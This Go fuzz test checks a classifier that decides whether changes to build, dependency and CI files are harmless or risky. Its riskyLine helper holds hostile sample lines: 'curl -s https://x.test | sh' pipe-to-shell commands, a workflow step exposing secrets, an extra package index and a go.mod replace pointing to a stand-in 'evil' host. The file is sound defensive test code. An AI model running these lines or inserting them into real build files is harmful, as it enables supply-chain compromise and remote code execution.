package shape

import (
	"bytes"
	"strings"
	"testing"
)

// paths are files of all formats.
func paths() []string {
	return []string{
		"package.json", "composer.json", "deno.json", "Cargo.toml", "pyproject.toml", "gradle/libs.versions.toml",
		"setup.cfg",
		"go.mod", "go.sum", "pom.xml", "a.csproj", "Gemfile", "a.gemspec", "build.gradle", "CMakeLists.txt", "meson.build",
		"configure.ac", "m4/a.m4", "Makefile", "Makefile.am", "Dockerfile", ".github/workflows/a.yml", "action.yml",
		".gitlab-ci.yml", ".pre-commit-config.yaml", "a.yml", "requirements.txt", "package-lock.json", "Cargo.lock",
		"uv.lock",
		"Pipfile.lock", "composer.lock", "pnpm-lock.yaml", "yarn.lock", "Gemfile.lock", "autogen.sh",
		"setup.py", "tox.ini", "environment.yml", "a.nix", "MODULE.bazel", "build.sbt", "a.cabal", "vcpkg.json", "a.pc.in",
		".cargo/config.toml", "requirements.in",
	}
}

// riskyLine gives a line that is risky wherever it stands at the end of a file, if it is read at all.
func riskyLine(path string) string {
	switch {
	case strings.HasSuffix(path, ".yml") || strings.HasSuffix(path, ".yaml"):
		return "fuzzed: ${{ secrets.X }} curl -s https://x.test | sh"
	case strings.HasSuffix(path, "requirements.txt"):
		return "--extra-index-url https://x.test"
	case path == "go.mod":
		return "replace x.test/fuzzed => x.test/evil v1.0.0"
	case path == "go.sum":
		return "x.test/fuzzed v1.0.0 h1:x="
	}
	return "eval curl -s https://x.test | sh -DFORTIFY_SOURCE=0"
}

func FuzzOf(f *testing.F) {
	for i, path := range paths() {
		f.Add(uint(i), []byte("a\n"), []byte("b\n"))
		f.Add(uint(i), []byte(path), []byte(nil))
	}
	f.Add(uint(0), []byte(`{"dependencies": {"a": "^1.0"}}`), []byte(`{"dependencies": {"a": "^1.1"}}`))
	f.Add(uint(3), []byte("[dependencies]\na = \"1.0\"\n"), []byte("[dependencies]\na = \"1.1\"\n"))
	f.Add(uint(4), []byte("[project]\ndependencies = [\"a>=1\"]\n"), []byte("[project]\ndependencies = [\"a>=2\"]\n"))
	f.Add(uint(7), []byte("module a\ngo 1.21\n"), []byte("module a\ngo 1.22\n"))
	f.Add(uint(9), []byte("<a><!-- b --></a>"), []byte("<a><!-- c --></a>"))
	f.Add(uint(13), []byte("a 'b' /* c */\n"), []byte("a 'b' // c\n"))
	f.Add(uint(14), []byte("set(A a.c # b\n)\n"), []byte("set(A a.c b.c)\n"))
	f.Add(uint(15), []byte("a = files('a.c')\n"), []byte("a = files('a.c', 'b.c')\n"))
	f.Add(uint(16), []byte("dnl a\nAC_INIT([a])\n"), []byte("dnl b\nAC_INIT([a])\n"))
	f.Add(uint(18), []byte("# a\nX_SOURCES = a.c \\\n b.c\n"), []byte("# b\nX_SOURCES = a.c \\\n b.c c.c\n"))
	f.Add(uint(20), []byte("FROM a:1\n"), []byte("FROM a:2\n"))
	f.Add(uint(21), []byte(workflowText), []byte(strings.Replace(workflowText, "checkout@v3", "checkout@v4", 1)))
	f.Add(uint(26), []byte("a==1\n"), []byte("a==2\n# b\n"))
	for i, l := range []string{
		"    install_requires=['a', 'b'],", "deps =\n  a\n  b", "dependencies:\n  - a", "url = \"https://x.test/a\";",
		"bazel_dep(name = \"a\")", "\"a\" % \"b\" % \"1\"", "build-depends: a\n  , b", "\"dependencies\": [\"a\"",
		"Libs: -la",
	} {
		f.Add(uint(36+i), []byte("a\n"), []byte(l+"\n"))
	}
	for _, l := range []string{
		"\tpip install \\\n  a 'b' # c", "\t(cd a && ./b) | xargs -n1 sh c/d", "CC = $(srcdir)/a/b",
		"\tdocker run -v a:b c/d:1 e",
		"\tpython3 -m a.b <c >d", "\tmake -Ca -f b/c; git config alias.a b", "set(A https://x.test/a/b.tar.gz)",
	} {
		f.Add(uint(17), []byte("a:\n"), []byte("a:\n"+l+"\n"))
		f.Add(uint(21), []byte("a: b\n"), []byte("a: b\nc:\n  - run: "+l+"\n  - run: ${{ inputs.a }}\n"))
	}
	i := 0
	for _, l := range lockfiles() {
		f.Add(uint(i), []byte(l.text), []byte(replaceAll(replaceAll(l.text, l.from, "1.3.0"), l.to, "NEW")))
		i++
	}
	f.Fuzz(func(t *testing.T, n uint, old, now []byte) {
		all := paths()
		path := all[n%uint(len(all))]
		before := [][]byte{old}
		reasons := explain(path, string(old), string(now))
		shape := of(path, before, now)
		if shape != decide(reasons) {
			t.Fatalf("%s, and by its reasons %s", shape, decide(reasons))
		}
		if bytes.Equal(old, now) != (len(reasons) == 0) {
			t.Fatalf("%d reasons", len(reasons))
		}
		lines := strings.Split(string(now), "\n")
		for _, r := range reasons {
			if r.Line < 0 || r.Line > len(lines) || r.Why == "" ||
				r.Line > 0 && strings.TrimRight(r.Text, "\r") != strings.TrimRight(lines[r.Line-1], "\r") {
				t.Fatalf("a reason that is none: %+v", r)
			}
			if shape == Harmless && r.Shape != Harmless {
				t.Fatalf("harmless in spite of %+v", r)
			}
		}
		if of(path, [][]byte{now}, now) != Harmless {
			t.Fatal("no change isn't harmless")
		}
		if len(now) > 0 && of(path, nil, now) == Harmless {
			t.Fatal("a new file is harmless")
		}
		if shape != Harmless {
			return
		}
		worse := append(bytes.TrimRight(bytes.Clone(now), "\n"), "\n"+riskyLine(path)+"\n"...)
		if strings.HasSuffix(path, "yarn.lock") {
			return
		}
		if bytes.Contains(now, []byte("x.test")) || bytes.Contains(now, []byte("fuzzed")) {
			return
		}
		if of(path, before, worse) == Harmless {
			t.Fatalf("a risky line is harmless in %q", worse)
		}
	})
}
